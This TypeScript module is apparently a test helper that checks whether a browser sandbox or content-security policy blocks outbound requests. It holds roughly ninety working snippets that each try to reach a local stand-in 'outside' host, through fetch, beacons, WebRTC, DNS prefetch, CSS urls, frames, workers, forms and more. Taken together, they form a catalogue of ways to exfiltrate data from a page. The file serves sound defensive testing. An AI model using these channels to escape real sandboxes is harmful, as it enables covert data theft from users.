/**
 * Code that wants to talk to somebody else, one attempt a way. As text, since it runs in documents and workers of any
 * policy. In it `to` is the address of the way on the outside, and `at` are the outside's other addresses.
 */
import type { Frame, Page, Worker } from 'playwright-core'
import type { Addresses, Outside } from './outside'

/** Ways that any script has, in a document and in a worker. */
export const anywhere: Record<string, string> = {
  fetch: `await fetch(to)`,
  'fetch-no-cors': `await fetch(to, { mode: 'no-cors', method: 'POST', body: 'x', credentials: 'include' })`,
  'fetch-keepalive': `await fetch(to, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })`,
  xhr: `const r = new XMLHttpRequest(); r.open('GET', to); r.send()`,
  'web-socket': `new WebSocket(to.replace('http', 'ws'))`,
  'event-source': `new EventSource(to)`,
  'web-transport': `const w = new WebTransport('https://127.0.0.1:' + at.udp['web-transport'] + '/'); w.closed.catch(() => 0); await w.ready`,
  import: `await import(to)`,
  'cache-add': `await (await caches.open('x')).add(to)`,
  'nested-worker': `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ').catch(() => 0)'], { type: 'text/javascript' })))`,
  'nested-worker-import-scripts': `new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(to) + ')'], { type: 'text/javascript' })))`,
  'nested-worker-module': `new Worker(URL.createObjectURL(new Blob(['import ' + JSON.stringify(to)], { type: 'text/javascript' })), { type: 'module' })`,
  'nested-worker-data': `new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(to) + ').catch(() => 0)'))`,
  'web-socket-stream': `new WebSocketStream(to.replace('http', 'ws'))`,
  'import-json': `await import(to, { with: { type: 'json' } })`,
  'font-face': `await new FontFace('x', 'url(' + to + ')').load()`,
}

/** Ways of a document alone that leave it standing. */
export const inDocuments: Record<string, string> = {
  'import-css': `await import(to, { with: { type: 'css' } })`,
  beacon: `navigator.sendBeacon(to, 'x')`,
  'fetch-later': `fetchLater(to, { activateAfter: 0 })`,
  'rtc-udp': `
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + at.udp['rtc-udp'] }] })
    pc.createDataChannel('x')
    await pc.setLocalDescription(await pc.createOffer())`,
  'rtc-tcp': `
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + at.tcp['rtc-tcp'] + '?transport=tcp', username: 'x', credential: 'x' }], iceTransportPolicy: 'relay' })
    pc.createDataChannel('x')
    await pc.setLocalDescription(await pc.createOffer())`,
  img: `new Image().src = to`,
  'img-srcset': `const i = document.createElement('img'); i.srcset = to + ' 2x'; document.body.append(i)`,
  'svg-image': `add('<svg><image href="' + to + '" width="9" height="9"/></svg>')`,
  'svg-filter': `add('<svg width="9" height="9"><filter id="f"><feImage href="' + to + '"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>')`,
  'input-image': `add('<input type="image" src="' + to + '">')`,
  'table-background': `add('<table background="' + to + '"><tr><td>x</td></tr></table>')`,
  icon: `const l = document.createElement('link'); l.rel = 'icon'; l.href = to; document.head.append(l)`,
  'media-video': `add('<video src="' + to + '" autoplay muted></video>')`,
  'media-poster': `add('<video poster="' + to + '"></video>')`,
  'media-audio': `new Audio(to).load()`,
  'media-track': `add('<video crossorigin="anonymous"><track default kind="subtitles" src="' + to + '"></video>'); document.querySelector('track').track.mode = 'showing'`,
  'css-link': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to; document.head.append(l)`,
  'css-import': `const s = document.createElement('style'); s.textContent = '@import "' + to + '";'; document.head.append(s)`,
  'css-background': `const s = document.createElement('style'); s.textContent = 'body { background-image: url("' + to + '") }'; document.head.append(s)`,
  'css-attribute': `const d = document.createElement('div'); d.textContent = 'x'; d.style.listStyleImage = 'url("' + to + '")'; d.style.display = 'list-item'; document.body.append(d)`,
  'css-shapes': `add('<p style="float: left; width: 9px; height: 9px; background: red; shape-outside: url(' + to + '); mask-image: url(' + to + ')">x</p>')`,
  'css-constructed': `const s = new CSSStyleSheet(); s.replaceSync('h6 { border-image: url("' + to + '") 1 / 3px }'); document.adoptedStyleSheets = [s]; add('<h6>x</h6>')`,
  'css-font': `const s = document.createElement('style'); s.textContent = '@font-face { font-family: leak; src: url("' + to + '") } .leak { font-family: leak }'; document.head.append(s); add('<p class="leak">x</p>')`,
  script: `const s = document.createElement('script'); s.src = to; document.body.append(s)`,
  'script-module': `const s = document.createElement('script'); s.type = 'module'; s.src = to; document.body.append(s)`,
  'script-inline': `const s = document.createElement('script'); s.textContent = 'fetch(' + JSON.stringify(to) + ')'; document.body.append(s)`,
  'script-import-map': `const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { hostile: to } }); document.head.append(s); await import('hostile')`,
  'script-bundle': `const s = document.createElement('script'); s.type = 'webbundle'; s.textContent = JSON.stringify({ source: to, resources: ['x'] }); document.head.append(s)`,
  'svg-script': `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', to); const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g)`,
  'paint-worklet': `await CSS.paintWorklet.addModule(to)`,
  'audio-worklet': `await new AudioContext().audioWorklet.addModule(to)`,
  'shared-worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ')'], { type: 'text/javascript' })))`,
  'link-preload': `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'fetch'; l.crossOrigin = 'anonymous'; l.href = to; document.head.append(l)`,
  'link-preload-image': `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = to; document.head.append(l)`,
  'link-module-preload': `const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = to; document.head.append(l)`,
  'link-manifest': `const l = document.createElement('link'); l.rel = 'manifest'; l.href = to; document.head.append(l)`,
  prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to; document.head.append(l)`,
  preconnect: `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://127.0.0.1:' + at.tcp.preconnect; document.head.append(l)`,
  'compression-dictionary': `const l = document.createElement('link'); l.rel = 'compression-dictionary'; l.href = to; document.head.append(l)`,
  'speculation-rules-prefetch': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [to], eagerness: 'immediate' }] }); document.head.append(s)`,
  'speculation-rules-prerender': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ urls: [to], eagerness: 'immediate' }] }); document.head.append(s)`,
  frame: `add('<iframe src="' + to + '"></iframe>')`,
  'frame-blank': `const f = document.createElement('iframe'); document.body.append(f); await f.contentWindow.fetch(to)`,
  'frame-blank-image': `const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.Image().src = to`,
  'frame-blank-beacon': `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.navigator.sendBeacon(to, 'x')`,
  'frame-blank-worker': `const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ')'], { type: 'text/javascript' })))`,
  'frame-set': `const f = document.createElement('frame'); f.src = to; document.body.append(f)`,
  'frame-srcdoc': `const f = document.createElement('iframe'); f.srcdoc = '<img src="' + to + '">'; document.body.append(f)`,
  'frame-data': `add('<iframe src="data:text/html,' + encodeURIComponent('<img src="' + to + '">') + '"></iframe>')`,
  'frame-blob': `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="' + to + '">'], { type: 'text/html' })); document.body.append(f)`,
  'frame-sandboxed': `const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = '<img src="' + to + '">'; document.body.append(f)`,
  'frame-moved': `const f = document.createElement('iframe'); f.src = 'about:blank'; document.body.append(f); f.contentWindow.location.href = to`,
  object: `add('<object data="' + to + '"></object>')`,
  embed: `add('<embed src="' + to + '" type="text/html">')`,
  portal: `const p = document.createElement('portal'); p.src = to; document.body.append(p)`,
  'form-in-frame': `
    const f = document.createElement('iframe'); f.name = 'form-target'; document.body.append(f)
    const form = document.createElement('form'); form.action = to; form.method = 'post'; form.target = 'form-target'; document.body.append(form); form.submit()`,
  identity: `await navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: 'x' }] } })`,
  'service-worker': `await navigator.serviceWorker.register(to)`,
}

/** Ways that take the document, or the window, somewhere else. */
export const leaving: Record<string, string> = {
  form: `const form = document.createElement('form'); form.action = to; form.method = 'post'; document.body.append(form); form.submit()`,
  'form-in-window': `const form = document.createElement('form'); form.action = to; form.method = 'post'; form.target = '_blank'; document.body.append(form); form.submit()`,
  'open-window': `window.open(to)`,
  'anchor-window': `const a = document.createElement('a'); a.href = to; a.target = '_blank'; a.rel = 'noopener'; document.body.append(a); a.click()`,
  'anchor-download': `const a = document.createElement('a'); a.href = to; a.download = 'x'; document.body.append(a); a.click()`,
  'anchor-ping': `const a = document.createElement('a'); a.href = '#x'; a.ping = to; document.body.append(a); a.click()`,
  'csp-report': `
    const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "media-src 'none'; report-uri " + to; document.head.append(m)
    new Audio('x.mp3').load()`,
  refresh: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + to; document.head.append(m)`,
  'own-location': `location.href = to`,
  'top-location': `top.location.href = to`,
}

/** Ways that let a name be looked up, which is enough to tell somebody something. `name` is the name. */
export const naming: Record<string, string> = {
  'dns-prefetch': `const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'http://' + name; document.head.append(l)`,
  'dns-preconnect': `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://' + name; document.head.append(l)`,
  'dns-rtc': `
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + name }] })
    pc.createDataChannel('x')
    await pc.setLocalDescription(await pc.createOffer())`,
  'dns-fetch': `await fetch('http://' + name)`,
}

/** Runs attempts side by side; a refusal is what a test hopes for, and what was heard is asked elsewhere. */
export async function attempt(
  where: Page | Frame | Worker,
  ways: Record<string, string>,
  { addresses }: Outside,
): Promise<void> {
  await (where as Page).evaluate(sourceOf(ways, addresses))
}

/** The same from a worker that hostile code starts for itself. */
export async function attemptInWorker(
  where: Page | Frame,
  ways: Record<string, string>,
  { addresses }: Outside,
): Promise<void> {
  await where.evaluate(
    (source) => void new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))),
    sourceOf(ways, addresses),
  )
}

function sourceOf(ways: Record<string, string>, at: Addresses): string {
  const attempts = Object.entries(ways).map(
    ([way, code]) =>
      `(async () => { const to = ${JSON.stringify(`${at.web}/${way}`)}; ${code} })().catch((e) => { said[${JSON.stringify(way)}] = String(e) })`,
  )
  return `(() => {
    const said = globalThis.said = {}
    const at = ${JSON.stringify(at)}
    const add = (html) => { const d = document.createElement('div'); d.innerHTML = html; document.body.append(d) }
    ;${attempts.join(';\n')}
  })()`
}
